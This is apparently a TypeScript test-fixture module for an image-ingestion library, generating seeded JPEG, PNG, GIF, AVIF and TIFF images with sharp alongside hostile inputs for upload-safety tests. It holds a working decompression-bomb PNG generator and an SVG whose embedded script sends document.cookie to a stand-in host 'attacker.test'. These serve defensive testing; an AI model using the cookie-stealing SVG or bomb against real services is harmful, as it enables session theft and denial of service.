import { crc32, deflateSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';

// Image fixtures are generated with sharp at test time, never committed. Pixels come from a
// seeded generator (smooth gradients and waves plus grain), so they compress like photos —
// a 4000×3000 JPEG at the default quality is ≈3 MB — and are the same on every run for the
// same seed. Generation uses raw pixel input only, so it works with every libvips loader
// blocked (`configureSharp` from @ingestkit/imaging).

/** Size and seed of a generated image. */
export interface FixtureSize {
  width: number;
  height: number;
  /** Seed of the pixel generator; same seed, same pixels. Default 1. */
  seed?: number;
}

/** Options of {@link makeJpeg}. */
export interface JpegFixtureOptions extends FixtureSize {
  /** Encoder quality. Default 85. */
  quality?: number;
  /** Add EXIF (IFD0 Make/Model/Software; with `orientation`, the Orientation tag too). */
  exif?: boolean;
  /** EXIF orientation 1–8; implies an EXIF block. */
  orientation?: number;
}

/** A photo-like JPEG, optionally with EXIF; setting `orientation` also embeds sharp's sRGB ICC profile. */
export async function makeJpeg(options: JpegFixtureOptions): Promise<Buffer> {
  let image = photo(options).jpeg({ quality: options.quality ?? 85 });
  if (options.exif || options.orientation !== undefined) {
    image = image.withExif({ IFD0: { Make: 'ingestkit', Model: 'fixture camera', Software: 'testkit' } });
  }
  if (options.orientation !== undefined) image = image.withMetadata({ orientation: options.orientation });
  return image.toBuffer();
}

/** A photo-like PNG; `alpha` adds a left-to-right transparency ramp. */
export async function makePng(options: FixtureSize & { alpha?: boolean }): Promise<Buffer> {
  return photo(options, options.alpha ? 4 : 3)
    .png()
    .toBuffer();
}

/**
 * A 1-bit black-and-white PNG of seeded random dots (default 64×64, ≈700 bytes), like a
 * dithered scan: lossy WebP and a truecolour re-encode are both several times larger, so
 * optimizing it must hand back the original bytes.
 */
export async function makeBitmapPng(options: Partial<FixtureSize> = {}): Promise<Buffer> {
  const { width = 64, height = 64, seed = 1 } = options;
  const data = Buffer.alloc(width * height);
  let state = seed >>> 0;
  for (let i = 0; i < data.length; i++) {
    state = (state * 1664525 + 1013904223) >>> 0;
    data[i] = state >>> 31 ? 255 : 0;
  }
  return sharp(data, { raw: { width, height, channels: 1 } })
    .png({ palette: true, colours: 2, compressionLevel: 9 })
    .toBuffer();
}

/** A photo-like WebP. */
export async function makeWebp(options: FixtureSize & { quality?: number; alpha?: boolean }): Promise<Buffer> {
  return photo(options, options.alpha ? 4 : 3)
    .webp({ quality: options.quality ?? 80 })
    .toBuffer();
}

/** A GIF; with `frames` > 1 an animated, endlessly looping one (100 ms per frame). Default 64×48. */
export async function makeGif(options: Partial<FixtureSize> & { frames?: number } = {}): Promise<Buffer> {
  const { width = 64, height = 48, frames = 1, seed = 1 } = options;
  const strip = photoPixels(width, height * frames, 3, seed);
  return sharp(strip, { raw: { width, height: height * frames, channels: 3, pageHeight: height } })
    .gif({ loop: 0, delay: Array.from({ length: frames }, () => 100) })
    .toBuffer();
}

/** A small AVIF (default 64×48; AVIF encoding is slow, keep it small). */
export async function makeAvif(options: Partial<FixtureSize> = {}): Promise<Buffer> {
  const { width = 64, height = 48, seed = 1 } = options;
  return photo({ width, height, seed }).avif({ quality: 50, effort: 0 }).toBuffer();
}

/** A photo-like TIFF (LZW-compressed, little-endian). */
export async function makeTiff(options: FixtureSize): Promise<Buffer> {
  return photo(options).tiff({ compression: 'lzw' }).toBuffer();
}

/** The first `fraction` (0–1) of `buf`: a transfer cut short. */
export function truncate(buf: Buffer, fraction: number): Buffer {
  if (!(fraction >= 0 && fraction <= 1)) throw new RangeError(`fraction must be within 0..1, got ${fraction}`);
  return Buffer.from(buf.subarray(0, Math.floor(buf.length * fraction)));
}

/**
 * A tiny, well-formed PNG whose IHDR claims `width` × `height`: the signature and IHDR are
 * valid (CRC recomputed), so only the pixel data — a single 1×1 row — gives it away. A
 * decompression-bomb stand-in that a header check must reject without decoding.
 */
export async function pngClaimingDimensions(width: number, height: number): Promise<Buffer> {
  const png = Buffer.from(
    await sharp({ create: { width: 1, height: 1, channels: 3, background: '#000' } })
      .png()
      .toBuffer(),
  );
  // signature (8) | IHDR length (4) | "IHDR" (4) | width (4) | height (4) | 5 more fields | CRC (4)
  if (png.toString('latin1', 12, 16) !== 'IHDR') throw new Error('sharp wrote a PNG without IHDR first');
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

/**
 * A real decompression bomb: a valid 1-bit greyscale PNG of `width` × `height` (default
 * 30000×30000 = 900 MP) whose pixels are all black, so it deflates to about 1/1000 of its
 * decoded size (≈ 110 kB here, 900 MB as 8-bit pixels). Built by hand with zlib in well under
 * a second; every chunk and CRC is valid, so only a pixel limit stops a decoder.
 */
export function makeDecompressionBomb(width = 30_000, height = 30_000): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const head = Buffer.alloc(4);
    head.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([head, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const row = 1 + Math.ceil(width / 8); // filter byte (0) + packed bits, all zero
  const idat = deflateSync(Buffer.alloc(row * height), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', idat),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * `jpeg` with `count` extra APP15 segments of `segmentBytes` (≤ 65533) each inserted after SOI:
 * a JPEG carrying huge metadata, as some editors and hostile uploads write.
 */
export function withJpegMetadata(jpeg: Buffer, count: number, segmentBytes = 65_533): Buffer {
  if (jpeg[0] !== 0xff || jpeg[1] !== 0xd8) throw new Error('not a JPEG');
  if (segmentBytes > 65_533) throw new RangeError('a JPEG segment holds at most 65533 bytes');
  const segment = Buffer.alloc(4 + segmentBytes, 0x20);
  segment.writeUInt16BE(0xffef, 0);
  segment.writeUInt16BE(segmentBytes + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), ...Array.from({ length: count }, () => segment), jpeg.subarray(2)]);
}

/** An SVG with a script and an external reference: what an SVG upload can carry. */
export function makeHostileSvg(): Buffer {
  return Buffer.from(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="48">' +
      '<script>fetch("https://attacker.test/?c=" + document.cookie)</script>' +
      '<image xlink:href="https://attacker.test/pixel.png" width="64" height="48"/></svg>',
    'utf8',
  );
}

/** Plain UTF-8 text. */
export function makeText(): Buffer {
  return Buffer.from('This is a plain text file, not an image.\n'.repeat(8), 'utf8');
}

/** A minimal one-page PDF (`%PDF-1.4`). */
export function makePdf(): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
      '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 72 72]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
    'latin1',
  );
}

/** A small SVG (which the imaging allow-list must refuse). */
export function makeSvg(): Buffer {
  return Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48"><rect width="64" height="48" fill="#2a6fb0"/></svg>',
    'utf8',
  );
}

function photo(size: FixtureSize, channels: 3 | 4 = 3): Sharp {
  const { width, height, seed = 1 } = size;
  return sharp(photoPixels(width, height, channels, seed), { raw: { width, height, channels } });
}

/**
 * Gradients and waves (structure) plus ±16 grain from a 32-bit LCG (texture). The inner loop
 * touches no global (`Math` included): under jest each global lookup goes through the VM
 * context's interceptors, and with `Math.imul`/`Math.sin` here 4000×3000 took 5.4 s instead
 * of 0.25 s.
 */
function photoPixels(width: number, height: number, channels: 3 | 4, seed: number): Buffer {
  const data = Buffer.allocUnsafe(width * height * channels);
  let state = seed >>> 0;
  let i = 0;
  for (let y = 0; y < height; y++) {
    const fy = y / height;
    const warp = sine(fy * 7) * 3;
    for (let x = 0; x < width; x++) {
      const fx = x / width;
      // exact: state × 1664525 < 2^53, and >>> 0 keeps the low 32 bits
      state = (state * 1664525 + 1013904223) >>> 0;
      const grain = ((state >>> 24) - 128) >> 3;
      const wave = sine(fx * 23 + warp) * 40;
      data[i++] = clamp(60 + fx * 120 + wave + grain);
      data[i++] = clamp(90 + fy * 100 - wave * 0.5 + grain);
      data[i++] = clamp(140 - fx * 60 + fy * 40 + grain);
      if (channels === 4) data[i++] = clamp(255 - fx * 200);
    }
  }
  return data;
}

const SINE_STEPS = 4096;
const SINE_SCALE = SINE_STEPS / (2 * Math.PI);
const sineTable = Float64Array.from({ length: SINE_STEPS }, (_, k) => Math.sin(k / SINE_SCALE));

/** sin(radians) from a table, for radians ≥ 0. */
function sine(radians: number): number {
  return sineTable[((radians * SINE_SCALE) | 0) & (SINE_STEPS - 1)]!;
}

function clamp(value: number): number {
  return value < 0 ? 0 : value > 255 ? 255 : value | 0;
}
